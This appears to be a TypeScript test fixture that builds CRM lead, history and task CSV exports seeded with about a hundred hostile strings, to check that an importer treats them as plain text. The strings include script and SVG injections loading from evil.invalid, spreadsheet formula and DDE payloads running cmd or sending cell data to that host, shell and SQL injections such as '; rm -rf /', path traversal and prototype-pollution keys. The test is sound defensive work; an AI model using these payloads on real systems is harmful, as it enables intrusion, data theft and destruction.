// biome-ignore-all lint/suspicious/noTemplateCurlyInString: templates that nobody may fill are among the texts.

/** What must not be taken for anything but text, wherever in a file it stands: a hundred texts, no two alike. */
export const HOSTILE: readonly string[] = [
  // HTML, SVG and MathML that run or fetch.
  '<img src=x onerror=alert(1)>',
  '<script>alert(2)</script>',
  '<svg onload=alert(3)>',
  '"><script src=https://evil.invalid/a.js></script>',
  "' onmouseover='alert(5)' autofocus='",
  '<iframe srcdoc="<script>alert(6)</script>"></iframe>',
  '<a href="javascript:alert(7)">Click</a>',
  '<body onload=alert(8)>',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<link rel="stylesheet" href="https://evil.invalid/a.css">',
  '<style>*{display:none}</style>',
  '<object data="https://evil.invalid/a.swf"></object>',
  '<embed src="https://evil.invalid/a.pdf">',
  '<form action="https://evil.invalid/"><button>Send</button></form>',
  '<input autofocus onfocus=alert(16)>',
  '<video><source onerror=alert(17)></video>',
  '<details open ontoggle=alert(18)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(19)>',
  '<!--<img src="--><img src=x onerror=alert(20)>',
  '<![CDATA[<script>alert(21)</script>]]>',
  '</textarea></title></select><script>alert(22)</script>',
  '<template><script>alert(23)</script></template>',
  '<noscript><img src=x></noscript>',
  '<b id="root">bold</b><hr>',
  '&lt;script&gt;alert(26)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(27)&#62;',
  '<IMG SRC=`javascript:alert(28)`>',
  '<marquee onstart=alert(29)>',
  '<portal src="https://evil.invalid/">',
  // Addresses and styles.
  'javascript:alert(31)',
  'JaVaScRiPt:alert(32)//%0Aalert(1)',
  'vbscript:msgbox(33)',
  'data:text/html,<script>alert(34)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'https://evil.invalid/?track=36',
  '//evil.invalid/37',
  'file:///etc/passwd',
  'background:url(https://evil.invalid/39.png)',
  '"};*{background:url(//evil.invalid/40)}',
  'expression(alert(41))',
  '@import "https://evil.invalid/42.css"',
  // What a spreadsheet would reckon, call or run.
  '=HYPERLINK("https://evil.invalid/?"&A1,"Open")',
  '=1+1',
  '+1+2',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A1",
  '=WEBSERVICE("https://evil.invalid/")',
  '=IMPORTXML("https://evil.invalid/","//a")',
  '\t=2+5',
  '\r=2+6',
  '\n=2+7',
  ' =2+8',
  '|=2+9',
  '＝2+10',
  'DDE("cmd";"/C calc";"!A0")',
  // Templates and formats of other languages.
  '{{constructor.constructor("alert(58)")()}}',
  '${alert(59)}',
  '`${process.exit()}`',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{7*7}}',
  '[[${7*7}]]',
  '%s%s%n%x',
  '{0}{name}{__class__}',
  '$(touch /tmp/67)',
  '; rm -rf /',
  "'; DROP TABLE leads; --",
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON',
  '%2e%2e%2f%00',
  // Names that every object has a part of.
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  'valueOf',
  '__defineGetter__',
  // What cannot be seen, or moves what stands beside it.
  'nul\u0000inside',
  'bell\u0007back\u0008space',
  '\u001b[31mred\u001b[0m\u001b]8;;https://evil.invalid\u0007link',
  'delete\u007fand\u0085next',
  'invoice\u202efdp.exe',
  '\u2066isolated\u2069\u200f',
  'zero\u200bwidth\u2060joined\ufeff',
  'line\u2028and\u2029paragraph',
  'tags\u{e0041}\u{e0042}',
  `pile${'\u0301\u0323\u0334'.repeat(20)}`,
  'half\ud800pair',
  '\ufffe\uffff',
  'ﷺﷺﷺﷺ 😀\u200d👩\u200d👧',
  // Other formats' marks.
  '[click](javascript:alert(94))',
  '![](https://evil.invalid/95.png)',
  '# heading\n- list\n| a | b |',
  'quoted "" and "," and\r\na line',
  'To: a@b.invalid\r\nBcc: everybody@evil.invalid\r\n\r\nBody',
  'BEGIN:VEVENT\r\nATTACH:https://evil.invalid/\r\nEND:VEVENT',
  `long ${'<b>'.repeat(2000)}`,
];

const SYLLABLES = ['ka', 'lo', 'mi', 'nu', 'pe', 'ra', 'so', 'ti', 'vu', 'ze'];

/** As many texts that nobody would mind, as unlike each other. */
export const HARMLESS: readonly string[] = HOSTILE.map((_, i) => {
  const [tens = '', ones = ''] = [SYLLABLES[Math.floor(i / 10)], SYLLABLES[i % 10]];
  return `${tens.repeat(3)} ${ones.repeat(4)}`;
});

export interface NamedText {
  readonly name: string;
  readonly text: string;
}

/** All cells quoted, so that whatever they hold is one cell; a formula stands as it is. */
const csvOf = (rows: readonly (readonly string[])[]): string =>
  rows.map((row) => `${row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\r\n`).join('');

/** What of a text a file in UTF-8 can hold: no half of a pair, and no zero character, which would tell that it is no text. */
export const asInFile = (text: string): string =>
  text.replaceAll('\u0000', '\u0001').replaceAll('\ud800', '\ufffd');

const dayOf = (number: number): string => new Date(Date.UTC(2025, 0, 1 + number)).toISOString();

/** Of few values at most 50 are listed. */
const FEW = 40;
/** How many leads the exports have besides one for each text. */
export const PLAIN_LEADS = 200;

/**
 * Four exports, one of them refused, in which the texts stand as headers, names of files, ids, owners, values of every type, values and fields of
 * a history, and types of activities; among enough that is in order for each file to be recognised.
 */
export function exportsOf(all: readonly string[]): readonly NamedText[] {
  const texts = all.map(asInFile);
  const text = (i: number): string => texts[i % texts.length] ?? '';
  const ids = [...texts, ...Array.from({ length: PLAIN_LEADS }, (_, i) => `00Q5Fen${10_000_000 + i}`)];
  const odd = (i: number, plain: string): string => (i < 30 ? text(i) : plain);
  const leads = ids.map((id, i) => [
    id,
    odd(i, dayOf(i)),
    odd(i + 10, i % 2 === 0 ? 'New' : 'Working'),
    text(i % FEW),
    text((i % FEW) + 30),
    odd(i, `person${i}@company.invalid`),
    i < 30 ? text(i + FEW) : String(i % 100),
    odd(i, i % 3 === 0 ? dayOf(i + 2) : ''),
    ...texts.map((_, column) => text(column + (i % FEW))),
  ]);
  const known = ['Marketing Qualified', 'Working', 'Accepted'];
  const history = ids.flatMap((id, i) => [
    [id, 'Status', 'New', known[i % 3] ?? '', dayOf(i + 3)],
    [id, 'Status', known[i % 3] ?? '', text(50 + (i % FEW)), dayOf(i + 4)],
    [id, 'Owner', text(i % FEW), text((i + 1) % FEW), dayOf(i + 5)],
    [id, text(60 + (i % FEW)), 'before', text(i), dayOf(i + 6)],
  ]);
  const activities = [...ids, ...texts.map((one) => `${one} that no lead has`)].flatMap((id, i) => [
    [id, odd(i, dayOf(i + 3)), 'Webinar Registered', 'false'],
    [id, dayOf(i + 3), text(FEW + (i % FEW)), text(i)],
  ]);
  const file = (which: string, rows: readonly (readonly string[])[], place: number): NamedText => ({
    // A path would be no name of a file.
    name: `${which} ${text(place).replaceAll('/', '|')}.csv`,
    text: csvOf(rows),
  });
  const leadHeader = [
    ...['Id', 'CreatedDate', 'Status', 'Owner', 'LeadSource', 'Email', 'Lead_Score__c', 'MQL_Date__c'],
    ...texts,
  ];
  return [
    // A zero character tells that a file is no text: it is refused, and shown with its reason.
    { name: `refused ${text(2)}.csv`, text: csvOf([['Id', 'nul\u0000inside']]) },
    file('leads', [leadHeader, ...leads], 0),
    file('history', [['LeadId', 'Field', 'OldValue', 'NewValue', 'CreatedDate'], ...history], 84),
    file('tasks', [['LeadId', 'ActivityDate', 'Type', 'Automated__c'], ...activities], 42),
  ];
}
